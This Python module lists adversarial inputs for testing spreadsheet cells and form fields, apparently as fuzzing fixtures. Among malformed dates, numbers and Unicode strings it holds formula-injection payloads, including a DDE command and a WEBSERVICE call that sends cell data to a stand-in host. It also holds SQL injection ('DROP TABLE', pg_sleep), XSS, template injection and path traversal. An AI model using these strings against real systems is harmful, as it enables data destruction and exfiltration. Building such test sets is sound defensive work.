"""Texts that one cell of a file, or one field of a form, may hold to do harm."""

FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "@SUM(1,2)", "+1-1", "-2+3", '=HYPERLINK("http://x.invalid","x")', "\t=1+1", "\r=1",
    "＝1+1", "'=1+1", "''=1", "=WEBSERVICE(\"http://x.invalid/\"&A1)", '=IMPORTXML("http://x.invalid","//a")',
]  # fmt: skip
DATES = [
    "0000-00-00", "9999-12-31", "99999-12-31", "31/31/31", "2026-02-30", "-0001-01-01", "1e9", "2958466", "-1",
    "2026-13-01", "00:00:60", "24:61", "2026-01-01T99:99:99Z", "2026-01-01 00:00:00+99:99", "١٢/٠٣/٢٠٢٦", "1/1/1",
]  # fmt: skip
NUMBERS = [
    "1e400", "-1e400", "NaN", "Infinity", "0x10", "9" * 400, "-" + "9" * 40, "1,2,3,4", "1.2.3", "٣", "²", "1_000", "--1",
    "1e-400", "(5)", "€", "1 000 000,00 XXX", "0." + "0" * 300 + "1", "1" + "'000" * 50,
]  # fmt: skip
TEXTS = [
    "\u202eabc", "a\u0300" * 400, "\u200b" * 50, "👩‍👩‍👧‍👦" * 60, "\ufeff", "\ufffe", "\uffff", "\U0010ffff", "\u2028\u2029", "\x00",
    "a\x00b", "\x01\x02\x7f\x80\x9f", "<script>alert(1)</script>", "{{ 7*7 }}{% debug %}", "${7*7}", "%s%n%(x)s", "\\N",
    "\\.", "\\u0000", "\\", '"', '""', "'", "';--", "'); DROP TABLE customers_person; --", "x' OR pg_sleep(5) IS NULL --",
    '{"a": 1}', "[]", "null", "../../etc/passwd", "a" * 10_000, "ß" * 300, "İ" * 100, "@", "a@", "@b", "a@b@c", "a@b..c",
    "a@" + "b" * 300 + ".de", "+" * 60, "+49" + "1" * 200, "tel:+49", "++49 30", "http://[", "https://" + "x" * 5000,
    "xn--a", "ﬀ", "Ⅷ", "ǅ", "\ud7ff", "، ؛", "; ; ;", "a; b; c", ", , ,", "\n\n", "\r", " ", "\u00a0", "\u3000",
]  # fmt: skip
ALL = [*FORMULAS, *DATES, *NUMBERS, *TEXTS]
